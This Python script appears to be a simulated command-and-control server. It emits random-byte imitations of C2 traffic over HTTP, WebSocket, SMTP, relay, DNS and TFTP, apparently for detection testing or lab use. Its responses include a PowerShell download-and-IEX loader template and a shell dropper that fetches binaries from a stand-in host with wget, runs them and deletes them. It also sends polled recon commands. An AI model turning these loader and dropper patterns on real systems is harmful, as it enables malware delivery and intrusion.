#!/usr/bin/env python3
"""The other end outside.  master.py ADDRESS CERTIFICATE KEY

80, 443 and 8080 HTTP(S) with orders now and then; 8888 a WebSocket whose master types; 25 mail that is taken; 7000 a relay (frp's way); 53 (UDP) names that carry
answers; 69 (UDP) files that are taken.
"""
import asyncio
import base64
import hashlib
import os
import random
import ssl
import struct
import sys


async def page(reader, writer):
    while True:
        head = (await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 90)).decode("latin-1")
        fields = {k.lower(): v.strip() for k, _, v in (line.partition(":") for line in head.split("\r\n")[1:] if line)}
        length, path = int(fields.get("content-length") or 0), head.split(" ")[1]
        if "100-continue" in head:
            writer.write(b"HTTP/1.1 100 Continue\r\n\r\n")
        while length > 0:
            part = await reader.read(min(65536, length))
            if not part:
                return
            length -= len(part)
        kind = "text/html"
        if fields.get("upgrade", "").lower() == "websocket":
            key = base64.b64encode(hashlib.sha1((fields["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest()).decode()
            writer.write(f"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: {key}\r\n\r\n".encode())
            return await typed(reader, writer)
        if path.endswith(".ps1"):
            body, kind = b"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + base64.b64encode(os.urandom(30_000)) + b"'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();", "text/plain"
        elif path.endswith(".sh"):
            body, kind = b"#!/bin/sh\ncd /tmp || cd /var/run\n" + b"".join(b"wget http://203.0.113.185/b/%s; chmod 777 %s; ./%s x; rm -rf %s\n" % (a, a, a, a) for a in (b"mips", b"mpsl", b"arm", b"arm7", b"x86", b"ppc")), "text/plain"
        elif path.startswith("/b/"):
            body, kind = b"\x7fELF\1\1\1\0" + b"\0" * 8 + b"\2\0\x28\0\1\0\0\0" + os.urandom(90_000), "application/octet-stream"
        elif path.startswith("/hoax"):
            # A shell by polling: every fifth question or so brings a command.
            body = random.choice((b"",) * 5 + (b"whoami /all", b"ipconfig /all", b"dir C:\\Users"))
        elif "ga.js" in path or "jquery" in path:
            body = b"/*! jQuery v3.3.1 */" + (os.urandom(random.choice((48, 112))) if random.random() < 0.15 else b"")
        else:
            body = base64.b64encode(os.urandom(random.choice((12, 12, 12, 12, 60, 260))))
        writer.write(f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
        await writer.drain()


async def typed(reader, writer):
    """Through a reverse tunnel: the far end asks, what lies behind the client answers."""
    async def orders():
        while True:
            await asyncio.sleep(random.uniform(4, 9))
            data = os.urandom(random.randint(60, 120))
            writer.write(struct.pack("!BB", 0x82, len(data)) + data)
            await writer.drain()
    task = asyncio.ensure_future(orders())
    try:
        while await asyncio.wait_for(reader.read(65536), 120):
            pass
    finally:
        task.cancel()


async def relay(reader, writer):
    """A relay's control connection: heartbeats are answered, and now and then it wants a new connection to work with."""
    n = 0
    while data := await asyncio.wait_for(reader.read(4096), 120):
        n += 1
        writer.write(os.urandom(31 if n % 3 else 57))
        await writer.drain()


async def mail(reader, writer):
    writer.write(b"220 mx.example ESMTP\r\n")
    body = False
    while line := await asyncio.wait_for(reader.readline(), 60):
        if body:
            if line == b".\r\n":
                body = False
                writer.write(b"250 2.0.0 queued\r\n")
            continue
        verb = line[:4].upper()
        body = verb == b"DATA"
        writer.write(b"354 go on\r\n" if body else b"221 bye\r\n" if verb == b"QUIT" else b"250 mx.example\r\n")
        await writer.drain()


class Names(asyncio.DatagramProtocol):
    """Answers by type: an address, an IPv6 address whose bytes are orders, or text."""

    def connection_made(self, transport):
        self.transport = transport

    def datagram_received(self, data, address):
        at = 12
        while data[at]:
            at += data[at] + 1
        kind = struct.unpack("!H", data[at + 1:at + 3])[0]
        value = b"\0\0\0\0" if kind == 1 else b"\x20\x01\x0d\xb8" + os.urandom(12) if kind == 28 else bytes([88]) + base64.b64encode(os.urandom(66))
        self.transport.sendto(data[:2] + b"\x84\0\0\1\0\1\0\0\0\0" + data[12:at + 5] + b"\xc0\x0c" + struct.pack("!HHIH", kind, 1, 1, len(value)) + value, address)


class Files(asyncio.DatagramProtocol):
    def connection_made(self, transport):
        self.transport = transport

    def datagram_received(self, data, address):
        code = struct.unpack("!H", data[:2])[0]
        self.transport.sendto(struct.pack("!HH", 4, 0 if code == 2 else struct.unpack("!H", data[2:4])[0]), address)


def shielded(handler):
    async def serve(reader, writer):
        try:
            await handler(reader, writer)
        except (OSError, EOFError, ValueError, asyncio.TimeoutError, asyncio.LimitOverrunError):
            pass
        writer.close()
    return serve


async def main():
    address, certificate, key = sys.argv[1:4]
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    for port in (80, 8080, 8888):
        await asyncio.start_server(shielded(page), address, port)
    await asyncio.start_server(shielded(page), address, 443, ssl=context)
    await asyncio.start_server(shielded(relay), address, 7000, ssl=context)
    await asyncio.start_server(shielded(mail), address, 25)
    loop = asyncio.get_running_loop()
    await loop.create_datagram_endpoint(Names, local_addr=(address, 53))
    await loop.create_datagram_endpoint(Files, local_addr=(address, 69))
    await asyncio.Event().wait()


asyncio.run(main())
